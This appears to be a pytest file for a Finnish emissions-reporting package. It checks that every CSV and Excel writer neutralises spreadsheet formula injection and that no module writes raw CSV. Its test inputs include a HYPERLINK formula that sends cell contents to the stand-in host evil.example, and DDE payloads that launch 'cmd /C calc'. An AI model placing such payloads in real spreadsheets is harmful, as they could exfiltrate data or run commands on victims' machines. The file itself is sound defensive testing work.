"""Formula injection (OWASP "CSV Injection"): every CSV and XLSX writer neutralises partner text.

Text beginning with =, +, -, @, tab or carriage return is run as a formula when a spreadsheet opens the
file (or when someone edits the cell). Every writer prefixes it with an apostrophe
(`outputs.neutralise_formula`); numbers stay numbers, a negative one too.

WRITERS lists every writer of a CSV or XLSX that partner text can reach, once: add a new writer there.
`test_no_csv_is_written_past_outputs` fails when a module writes CSV without `outputs.csv_text`.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from helpers import REPO, build_template
from paastolaskuri.cli import main
from paastolaskuri.core.outputs import (
    csv_field,
    csv_text,
    is_formula_text,
    neutralise_formula,
    neutralise_frame,
    write_csv,
)
from paastolaskuri.core.workspace import Workspace
from paastolaskuri.demo.commitments import commitments_csv
from paastolaskuri.footprint import Footprint, compute_footprint
from paastolaskuri.intake.annotate import annotate_workbook
from paastolaskuri.intake.next_year import write_next_year_templates
from paastolaskuri.intake.reader import read_submission
from paastolaskuri.intake.template import write_template
from paastolaskuri.messages import Problem
from paastolaskuri.reporting.excel_summary import write_network_excel, write_partner_excel
from paastolaskuri.reporting.processed import partner_row, write_partner, write_year_tables

# one partner text per trigger, in the order = + - @ tab CR; each would run (a link that sends the
# neighbouring cell away, a DDE command) if a spreadsheet took it for a formula
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"klikkaa")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
NEGATIVE = -1234.5
SLUG = "testi-oy"
YEAR = 2024


def _as_typed(text: str) -> str:
    """A text cell as the partner typed it: the reader trims spaces, tabs and line ends around a cell."""
    return text.strip()


def _lf(text: str) -> str:
    """A text with its line ends as LF: XML reads a CR so in an XLSX, `outputs.csv_field` writes it so."""
    return text.replace("\r", "\n")


def _typed_lf(text: str) -> str:
    return _lf(_as_typed(text))


# --- reading what a writer wrote -----------------------------------------------------------------


@dataclass
class Output:
    """What a written file holds: its text cells, its numeric cells and any formula cells."""

    texts: list[str] = field(default_factory=list)
    numbers: list[float] = field(default_factory=list)
    formulas: list[str] = field(default_factory=list)


def _csv_output(text: str) -> Output:
    """Every field of a CSV text: as text, and as a number when it reads as one (as a spreadsheet would)."""
    out = Output()
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            out.texts.append(value)
            with contextlib.suppress(ValueError):
                out.numbers.append(float(value))
    return out


def _xlsx_output(path: Path) -> Output:
    """Every cell of every sheet of a workbook, formulas included (not their cached values)."""
    out = Output()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    out.formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    out.texts.append(cell.value)
                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    out.numbers.append(float(cell.value))
    return out


# --- the partner data every writer gets ----------------------------------------------------------


def _hostile_template(folder: Path, name: str = "hostile.xlsx") -> Path:
    """A partner's template whose name, sites, own-factor sources and notes are the HOSTILE texts.

    Typed in as text cells, as Excel stores them when a partner types '=... (the package's own
    template writer would neutralise them).
    """
    lines = [
        {
            "activity": "light_fuel_oil",
            "quantity": 100 + i,
            "unit": "l",
            "quality": "measured",
            "own_factor": 2.5,
        }
        for i in range(len(HOSTILE))
    ]
    path = build_template(folder, organisation={"partner_id": SLUG}, lines=lines, name=name)
    wb = openpyxl.load_workbook(path)
    cells = {("Organisaatio", "B4"): HOSTILE[0]}
    for i, text in enumerate(HOSTILE):
        cells.update({("Toiminta", f"{col}{7 + i}"): text for col in "AGI"})  # site, own factor source, note
    for (sheet, ref), text in cells.items():
        cell = wb[sheet][ref]
        cell.value = text
        cell.data_type = "s"  # text, as typed: openpyxl would otherwise store "=..." as a formula
    wb.save(path)
    return path


def _hostile_footprint(folder: Path) -> Footprint:
    fp = compute_footprint(_hostile_template(folder), workspace=folder / "ws")
    assert fp.ok, [p.message("en") for p in fp.problems]
    return fp


def _processed(folder: Path) -> Workspace:
    """The hostile partner's processed files (partner and year tables), as the runner writes them."""
    ws = Workspace.at(folder / "ws")
    row = write_partner(ws, YEAR, SLUG, _hostile_footprint(folder), "fi")
    write_year_tables(ws, YEAR, [row], "fi")
    return ws


# --- the writers ---------------------------------------------------------------------------------


def _write_csv(tmp: Path) -> Output:
    frame = pd.DataFrame({"text": list(HOSTILE), "kg": [NEGATIVE] * len(HOSTILE)})
    return _csv_output(write_csv(tmp / "t.csv", frame).read_text(encoding="utf-8"))


def _partner_emissions_csv(tmp: Path) -> Output:
    ws = _processed(tmp)
    return _csv_output((ws.partner_processed_dir(YEAR, SLUG) / "emissions.csv").read_text(encoding="utf-8"))


def _year_partners_csv(tmp: Path) -> Output:
    return _csv_output((_processed(tmp).processed_dir(YEAR) / "partners.csv").read_text(encoding="utf-8"))


def _year_emissions_csv(tmp: Path) -> Output:
    return _csv_output((_processed(tmp).processed_dir(YEAR) / "emissions.csv").read_text(encoding="utf-8"))


def _calc_csv(tmp: Path) -> Output:
    path = _hostile_template(tmp)
    stdout = io.StringIO()
    with contextlib.redirect_stdout(stdout):
        assert main(["calc", str(path), "--format", "csv", "--workspace", str(tmp / "ws")]) == 0
    return _csv_output(stdout.getvalue())


def _demo_commitments_csv(tmp: Path) -> Output:
    rows = [
        {"partner_id": SLUG, "commitment_id": f"T{i}", "description": text, "compensated_t": NEGATIVE}
        for i, text in enumerate(HOSTILE)
    ]
    return _csv_output(commitments_csv(rows))


def _partner_excel(tmp: Path) -> Output:
    fp = _hostile_footprint(tmp)
    lines = fp.explain_table("fi")
    for column in ("site", "source", "note"):  # the texts as sent, tabs and line ends included
        lines[column] = [HOSTILE[r - 7] for r in lines["row"]]
    lines.loc[0, "kg_co2e"] = NEGATIVE
    summary = dict(partner_row(fp, SLUG), name=HOSTILE[0])
    totals = {"partner_id": SLUG, "year": YEAR, "factor_set": "x", "gwp_set": "AR5", "totals": fp.totals}
    return _xlsx_output(write_partner_excel(tmp / "p.xlsx", dict(totals, summary=summary), lines, "fi"))


def _network_excel(tmp: Path) -> Output:
    d = _processed(tmp).processed_dir(YEAR)
    partners = pd.read_csv(d / "partners.csv", dtype={"sector": str, "section": str})  # as run/network.py
    partners.loc[0, "employees_fte"] = NEGATIVE
    emissions = pd.read_csv(d / "emissions.csv")
    return _xlsx_output(write_network_excel(tmp / "n.xlsx", partners, emissions, public=False, lang="fi"))


def _template(tmp: Path) -> Output:
    lines = [
        {
            "activity": "light_fuel_oil",
            "quantity": NEGATIVE,
            "unit": "l",
            "site": t,
            "own_factor_source": t,
            "note": t,
        }
        for t in HOSTILE
    ]
    commitments = [
        {"commitment_id": f"A{i}", "kind": "action", "description": t} for i, t in enumerate(HOSTILE)
    ]
    org = {"partner_id": SLUG, "name": HOSTILE[0], "year": YEAR}
    return _xlsx_output(
        write_template(tmp / "t.xlsx", organisation=org, lines=lines, commitments=commitments)
    )


def _next_year_template(tmp: Path) -> Output:
    ws = Workspace.at(tmp / "ws")
    _hostile_template(ws.raw_dir(YEAR))
    write_next_year_templates(ws.root, YEAR + 1, tmp / "next")
    return _xlsx_output(tmp / "next" / f"{SLUG}.xlsx")


def _annotated_csv(tmp: Path) -> Output:
    src = tmp / "sent.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["site", "kg"], *[[text, "1"] for text in HOSTILE]])
    problems = [Problem("sent.csv", "not_xlsx", sheet=text, cell="A2") for text in HOSTILE]
    return _xlsx_output(annotate_workbook(src, problems, tmp / "annotated.xlsx", "fi"))


@dataclass(frozen=True)
class Writer:
    """A writer, what its input path does to a text on the way, which texts reach it, its negative number."""

    name: str
    write: Callable[[Path], Output]
    path: Callable[[str], str]
    texts: tuple[str, ...] = HOSTILE
    negative: float | None = NEGATIVE  # None: no negative number can reach it (the reader refuses them)


WRITERS = [
    Writer("outputs.write_csv", _write_csv, _lf),
    Writer("processed partners/<slug>/emissions.csv", _partner_emissions_csv, _as_typed, negative=None),
    Writer("processed partners.csv (name)", _year_partners_csv, _as_typed, HOSTILE[:1], negative=None),
    Writer("processed emissions.csv", _year_emissions_csv, _as_typed, negative=None),
    Writer("calc --format csv", _calc_csv, _as_typed, negative=None),
    Writer("demo data/commitments.csv", _demo_commitments_csv, _lf),
    Writer("partner Excel summary", _partner_excel, _lf),
    Writer("network Excel summary (coordinator)", _network_excel, _typed_lf, HOSTILE[:1], NEGATIVE),
    Writer("template (demo, coursework, pre-filled)", _template, _lf),
    Writer("next year's template", _next_year_template, _typed_lf, negative=None),
    Writer("annotated copy of a CSV (sheet and check list)", _annotated_csv, _lf, negative=None),
]


def _runs_as_formula(text: str) -> bool:
    """The test's own reading of the rule: text starting = + - @ tab CR that is not a number or a lone sign."""
    if text[:1] not in ("=", "+", "-", "@", "\t", "\r") or text in ("-", "+"):
        return False
    return re.fullmatch(r"[+-][0-9 .,]*[0-9][0-9 .,]*(e[+-]?[0-9]+)?", text) is None


@pytest.mark.parametrize("writer", WRITERS, ids=[w.name for w in WRITERS])
def test_every_writer_neutralises_formula_text(writer, tmp_path):
    out = writer.write(tmp_path)
    for text in writer.texts:
        kept = writer.path(text)
        assert "'" + kept in out.texts, f"{writer.name}: {text!r} not written as '{kept!r}"
        assert kept not in out.texts, f"{writer.name}: {kept!r} written as a formula would read it"
    assert [t for t in out.texts if _runs_as_formula(t)] == []
    assert out.formulas == []
    if writer.negative is not None:
        assert writer.negative in out.numbers or writer.negative / 1000 in out.numbers, writer.name
        assert str(writer.negative) not in [t[1:] for t in out.texts if t.startswith("'")]


def test_each_trigger_reaches_the_direct_writers():
    # the list covers every trigger the OWASP page names, in its order
    assert [t[0] for t in HOSTILE] == ["=", "+", "-", "@", "\t", "\r"]


# --- the rule itself -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- first item", "'- first item"),  # a bullet is text too: it could hide a formula after the sign
        ("-1\r\n2", "'-1\r\n2"),  # line ends are not number separators
        ("Saha Oy", "Saha Oy"),
        ("'=1+1", "'=1+1"),  # already neutralised: not prefixed twice
        ("", ""),
        ("-", "-"),  # a lone sign (a missing value in a table) cannot run
        ("-12,5", "-12,5"),  # numbers written as text keep their sign: no function can hide in them
        ("+1 234,5 %", "+1 234,5 %"),
        ("-1e-05", "-1e-05"),
        ("-∞", "-∞"),
        (NEGATIVE, NEGATIVE),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
    assert neutralise_formula(neutralise_formula(value)) == expected


def test_a_line_end_inside_a_csv_field_never_starts_a_row():
    # the csv module leaves a lone CR unquoted under LF line ends: a spreadsheet would start a row at it
    assert csv_field("Saha\r=1+1") == "Saha\n=1+1"
    assert csv_field("\r\n=1+1") == "'\n=1+1"  # neutralised first (it begins with CR), then LF
    assert csv_field(NEGATIVE) == NEGATIVE
    text = csv_text(pd.DataFrame({"site": ["Saha\r=1+1", "Halli"], "kg": [1.0, 2.0]}))
    assert text == 'site,kg\n"Saha\n=1+1",1.0\nHalli,2.0\n'
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["site", "kg"], ["Saha\n=1+1", "1.0"], ["Halli", "2.0"]]


def test_neutralise_formula_agrees_with_is_formula_text():
    for text in (*HOSTILE, "Saha", "-5", "-"):
        assert is_formula_text(text) == (neutralise_formula(text) != text)


def test_frame_keeps_number_columns_as_numbers_and_neutralises_text_and_headers():
    frame = pd.DataFrame(
        {
            "=name": ["=x", "y", None],
            "kg": [NEGATIVE, 2.0, float("nan")],
            "n": [-3, 4, 5],
            "kind": pd.Categorical(["-a", "b", "b"]),
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=name", "kg", "n", "kind"]
    assert out["'=name"].tolist()[:2] == ["'=x", "y"] and pd.isna(out["'=name"].iloc[2])
    assert out["kg"].dtype == "float64" and out["kg"].iloc[0] == NEGATIVE
    assert out["n"].dtype == "int64" and out["n"].tolist() == [-3, 4, 5]
    assert out["kind"].tolist() == ["'-a", "b", "b"]
    assert frame.columns[0] == "=name" and frame.iloc[0, 0] == "=x"  # the caller's frame unchanged
    assert csv_text(frame) == "'=name,kg,n,kind\n'=x,-1234.5,-3,'-a\ny,2.0,4,b\n,,5,b\n"


def test_a_neutralised_name_reads_back_with_its_apostrophe_and_is_not_prefixed_again(tmp_path):
    # docs/decisions.md: the reports show the apostrophe, as OWASP intends; rewriting does not add another
    ws = _processed(tmp_path)
    d = ws.processed_dir(YEAR)
    partners = pd.read_csv(d / "partners.csv")
    assert partners.loc[0, "name"] == "'" + HOSTILE[0]
    assert partners.loc[0, "partner_id"] == SLUG and partners.loc[0, "slug"] == SLUG  # ids untouched
    parquet = pd.read_parquet(d / "partners.parquet")
    assert parquet.loc[0, "name"] == "'" + HOSTILE[0]  # the Parquet shows the name as the CSV does
    again = csv_text(partners)
    assert "''" not in again
    lines = pd.read_csv(ws.partner_processed_dir(YEAR, SLUG) / "emissions.csv")
    assert lines["quantity"].dtype == "float64"
    assert sorted(set(lines["quantity"])) == [100.0, 101.0, 102.0, 103.0, 104.0, 105.0]


def test_annotated_csv_keeps_a_negative_number_as_written(tmp_path):
    src = tmp_path / "sent.csv"
    src.write_text("site,quantity\nHalli,-1234.5\n", encoding="utf-8")
    wb = openpyxl.load_workbook(annotate_workbook(src, [], tmp_path / "a.xlsx", "fi"))
    assert [c.value for c in wb["csv"][2]] == ["Halli", "-1234.5"]  # every CSV field is text, unprefixed


# --- no writer past the rule ---------------------------------------------------------------------

_RAW_CSV = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")


def test_no_csv_is_written_past_outputs():
    found = []
    for path in sorted((REPO / "lib" / "paastolaskuri").rglob("*.py")):
        rel = path.relative_to(REPO / "lib").as_posix()
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if _RAW_CSV.search(line) and rel not in _ALLOWED_RAW_CSV:
                found.append(f"{rel}:{n}: {line.strip()}")
    assert found == [], "write CSV with outputs.csv_text / write_csv (formula injection):\n" + "\n".join(
        found
    )


# the one place that writes CSV itself, passing every value through outputs.csv_field
_ALLOWED_RAW_CSV = {"paastolaskuri/core/outputs.py"}


def test_the_source_scan_would_see_a_raw_writer():
    assert _RAW_CSV.search("frame.to_csv(sys.stdout, index=False)")
    assert _RAW_CSV.search("w = csv.DictWriter(out, fieldnames=keys)")


@pytest.mark.parametrize("partner_id", ["=x1", "@firma", "+358-oy", "-oy"])
def test_a_partner_id_a_spreadsheet_would_run_is_refused(tmp_path, partner_id):
    # IDs join CSV, JSON and template rows: one that neutralising would change is refused at intake
    path = build_template(tmp_path, organisation={"partner_id": "x"})
    wb = openpyxl.load_workbook(path)
    wb["Organisaatio"]["B3"].value = partner_id
    wb["Organisaatio"]["B3"].data_type = "s"
    wb.save(path)
    errors = [p for p in read_submission(path).problems if p.is_error]
    assert [(p.sheet, p.cell, p.message("en")) for p in errors] == [
        ("Organisaatio", "B3", f'partner ID "{partner_id}" is not usable: use letters, digits and hyphens')
    ]


@pytest.mark.parametrize("partner_id", ["testi-oy", "007", "-5"])
def test_partner_ids_neutralising_leaves_alone_stay_usable(tmp_path, partner_id):
    path = build_template(tmp_path, organisation={"partner_id": partner_id})
    sub = read_submission(path)
    assert [p for p in sub.problems if p.is_error] == []
    assert str(sub.organisation["partner_id"]) == partner_id == neutralise_formula(partner_id)
